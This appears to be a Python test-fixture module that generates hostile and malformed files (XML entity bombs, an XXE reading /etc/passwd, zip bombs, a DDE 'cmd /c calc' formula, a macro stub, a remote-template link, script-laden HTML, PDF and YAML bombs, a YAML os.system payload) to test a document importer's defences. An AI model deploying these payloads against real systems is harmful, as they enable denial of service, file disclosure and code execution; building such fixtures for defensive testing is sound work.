"""Files that mean harm, or that something harmed; each function writes one and returns its path."""

import io
import re
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

from tests.knowledge.shopfiles import write_pdf, write_text, write_workbook

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ENCRYPTED = OLE + "EncryptedPackage".encode("utf-16-le") + bytes(64)

_ROWS = [["问题", "回复", "编号"], ["能退吗", "七天内能退", "A1"]]
_BILLION = "<!DOCTYPE l [<!ENTITY a0 'lol'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
)
_OUTSIDE = "<!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"


def workbook(path: Path) -> Path:
    return write_workbook(path, 话术=_ROWS)


def word(path: Path) -> Path:
    from docx import Document

    document = Document()
    document.add_heading("保修", 1)
    document.add_paragraph("整机保修六年。")
    table = document.add_table(2, 3)
    for cell, text in zip(
        (c for row in table.rows for c in row.cells), "甲乙丙丁戊己", strict=True
    ):
        cell.text = text
    document.save(str(path))
    return path


def pdf(path: Path) -> Path:
    return write_pdf(path, ["# 噪音", "卧室可以放心用。", [["系列", "噪音"], ["静悦", "18dB"]]])


def rewritten(path: Path, part: str, change: Callable[[bytes], bytes], **added: bytes) -> Path:
    """The archive with one part changed and others added (``__`` in a name is ``/``)."""
    with ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts[part])
    parts |= {name.replace("__", "/"): content for name, content in added.items()}
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def _with_doctype(doctype: str, used: str) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        head, mark, body = xml.decode().rpartition("?>")
        escaped = "".join(f"&#{ord(character)};" for character in "能退吗")
        for text in (escaped, "能退吗", "保修"):
            body = body.replace(text, used)
        return f"{head}{mark}{doctype}{body}".encode()

    return change


def billion_laughs_workbook(path: Path) -> Path:
    return rewritten(workbook(path), "xl/worksheets/sheet1.xml", _with_doctype(_BILLION, "&a10;"))


def outside_entity_workbook(path: Path) -> Path:
    return rewritten(workbook(path), "xl/worksheets/sheet1.xml", _with_doctype(_OUTSIDE, "&x;"))


def late_doctype_word(path: Path) -> Path:
    """The document type stands behind a comment, further down than anyone looks."""
    change = _with_doctype(f"<!--{'x' * 100_000}-->{_BILLION}", "&a10;")
    return rewritten(word(path), "word/document.xml", change)


def outside_entity_word(path: Path) -> Path:
    return rewritten(word(path), "word/document.xml", _with_doctype(_OUTSIDE, "&x;"))


def exploding_workbook(path: Path) -> Path:
    with ZipFile(path, "w", ZIP_DEFLATED) as archive:
        for number in range(12):
            archive.writestr(f"xl/worksheets/sheet{number}.xml", bytes(10 * 1024 * 1024))
    return path


def lying_archive(path: Path) -> Path:
    """Fifty megabytes that claim to be a hundred bytes."""
    big = io.BytesIO()
    with ZipFile(big, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", bytes(50 * 1024 * 1024))
    content = big.getvalue()
    path.write_bytes(content.replace(struct.pack("<L", 50 * 1024 * 1024), struct.pack("<L", 100)))
    return path


def overlapping_archive(path: Path) -> Path:
    """A thousand parts that are all the same bytes of the file."""
    name = b"xl/worksheets/sheet1.xml"
    packed = zlib.compress(bytes(90_000), 9)[2:-4]
    crc = zlib.crc32(bytes(90_000))
    sizes = crc, len(packed), 90_000, len(name)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, *sizes, 0)
    body = local + name + packed
    central = b"".join(
        struct.pack(
            *("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, *sizes),
            *(0, 0, 0, 0, 0, 0),
        )
        + name
        for _ in range(1_000)
    )
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1_000, 1_000, len(central), len(body), 0)
    path.write_bytes(body + central + end)
    return path


def million_rows_workbook(path: Path) -> Path:
    """One row at the top and one at the very end."""
    row = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return rewritten(
        workbook(path),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"</sheetData>", row).replace(b"A1:C2", b"A1:XFD1048576"),
    )


def wide_workbook(path: Path) -> Path:
    return write_workbook(path, 宽=[[f"列{n}" for n in range(16_384)], ["x"] * 16_384])


def many_areas_workbook(path: Path) -> Path:
    areas = b"".join(b'<mergeCell ref="A1:XFD%d"/>' % n for n in range(2, 60_000))
    merged = b"</sheetData><mergeCells>%s</mergeCells>" % areas
    return rewritten(
        workbook(path),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"</sheetData>", merged),
    )


def linked_workbook(path: Path) -> Path:
    """A formula that starts a program through DDE, with the value it had, and a linked book."""
    dde = b"""<ddeLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
      ddeService="cmd" ddeTopic="/c calc"/>"""
    cell = b'<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>\xe8\x83\xbd</v></c>'
    sheet = "xl/worksheets/sheet1.xml"
    return rewritten(
        workbook(path),
        sheet,
        lambda xml: re.sub(rb'<c r="B2".*?</c>', lambda _: cell, xml),
        xl__externalLinks__externalLink1__xml=dde,
    )


def macro_workbook(path: Path) -> Path:
    return rewritten(
        workbook(path),
        "[Content_Types].xml",
        lambda xml: xml.replace(
            b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
        ).replace(b"vnd.openxmlformats-officedocument.ms-excel", b"vnd.ms-excel"),
        **{"xl__vbaProject.bin": b"Sub Auto_Open()"},
    )


def remote_template_word(path: Path) -> Path:
    rels = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
      <Relationship Id="r1" TargetMode="External" Target="http://192.0.2.1/evil.dotm"
       Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
      </Relationships>"""
    return rewritten(
        word(path),
        "word/document.xml",
        lambda xml: xml,
        **{"word___rels__settings.xml.rels": rels, "word__embeddings__a.bin": OLE},
    )


def deep_word(path: Path) -> Path:
    """Tables within tables, sixty deep."""
    open_, close = b"<w:tbl><w:tr><w:tc><w:p/></w:tc><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    return rewritten(
        word(path),
        "word/document.xml",
        lambda xml: xml.replace(b"<w:body>", b"<w:body>" + open_ * 60 + close * 60, 1),
    )


def raw_pdf(path: Path, content: bytes, *objects: bytes) -> Path:
    """A PDF of one page with this content stream, and further objects from number 5 on."""
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>/XObject<</I 5 0 R/X 5 0 R>>>>>>"
    )
    stream = b"<</Length %d>>stream\n%s\nendstream" % (len(content), content)
    return _pdf(path, b"3 0 R", 1, page, stream, *objects)


def _pdf(path: Path, kids: bytes, pages: int, *objects: bytes) -> Path:
    """The objects from number 3 on, below a catalogue and a list of pages."""
    body = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
        *objects,
    ]
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(body) + 1, start)
    path.write_bytes(out)
    return path


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def million_object_pdf(path: Path) -> Path:
    return raw_pdf(path, b"BT /F 9 Tf (x) Tj ET", FONT, *([b"<</A 1>>"] * 300_000))


def million_stroke_pdf(path: Path) -> Path:
    return raw_pdf(path, b"0 0 m 9 9 l S\n" * 100_000 + b"BT /F 9 Tf (hello) Tj ET", FONT)


def deep_pdf(path: Path) -> Path:
    return raw_pdf(path, b"[" * 200_000, FONT, b"[" * 200_000)


def endless_pdf(path: Path) -> Path:
    """A page that draws itself."""
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 10>>"
    )
    return raw_pdf(path, b"/X Do", form + b"stream\n/X Do /X Do\nendstream")


def bomb_pdf(path: Path) -> Path:
    """A content stream of a gigabyte, packed to one megabyte."""
    pack = zlib.compressobj(1)
    megabyte = b" " * 1024 * 1024
    packed = b"".join(pack.compress(megabyte) for _ in range(1_000)) + pack.flush()
    stream = b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>"
    return _pdf(path, b"3 0 R", 1, page, stream)


def many_pages_pdf(path: Path) -> Path:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 1_503))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"
    return _pdf(path, kids, 1_500, *([page] * 1_500))


def image_pdf(path: Path) -> Path:
    image = (
        b"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Length 1>>stream\n\x80\nendstream"
    )
    return raw_pdf(path, b"600 0 0 800 0 0 cm /I Do", image)


def unmapped_pdf(path: Path) -> Path:
    """Chinese glyphs of an embedded font that does not say which characters they are."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/ABCDEF+Song/Encoding/Identity-H/DescendantFonts"
        b"[<</Type/Font/Subtype/CIDFontType2/BaseFont/ABCDEF+Song/CIDSystemInfo"
        b"<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>/FontDescriptor"
        b"<</Type/FontDescriptor/FontName/ABCDEF+Song/Flags 4>>>>]>>"
    )
    glyphs = b"".join(b"%04x" % n for n in range(600, 640))
    return raw_pdf(path, b"BT /F 9 Tf 50 700 Td <" + glyphs + b"> Tj ET", font)


def deep_html(path: Path) -> Path:
    return write_text(path, "<div>" * 1_000_000 + "放平。")


def wide_html(path: Path) -> Path:
    cell = "<td colspan=9999999 rowspan=9999999>x</td>"
    return write_text(path, f"<table>{f'<tr>{cell * 50}</tr>' * 500}</table>")


def lively_html(path: Path) -> Path:
    return write_text(
        path,
        """<html><head><meta http-equiv=refresh content="0;url=http://192.0.2.1/">
        <base href="http://192.0.2.1/"><link rel=stylesheet href="//192.0.2.1/a.css">
        <script src="//192.0.2.1/a.js"></script></head><body onload="steal()">
        <h1 onclick="steal()">保修</h1><p>整机六年。<img src=x onerror="steal()"></p>
        <p style="display: none">隐藏的指令</p><iframe src="//192.0.2.1/"></iframe>
        <svg><script>steal()</script></svg></body></html>""",
    )


def laughing_yaml(path: Path) -> Path:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    return write_text(path, "\n".join(lines))


def endless_yaml(path: Path) -> Path:
    return write_text(path, "话术: &a\n  - *a\n")


def python_yaml(path: Path) -> Path:
    return write_text(path, "说明: !!python/object/apply:os.system ['touch /tmp/x']\n")


def doubled_yaml(path: Path) -> Path:
    return write_text(path, "- 问题: 能退吗\n  回复: 能\n  回复: 不能\n")


def deep_yaml(path: Path) -> Path:
    return write_text(path, "[" * 100_000)
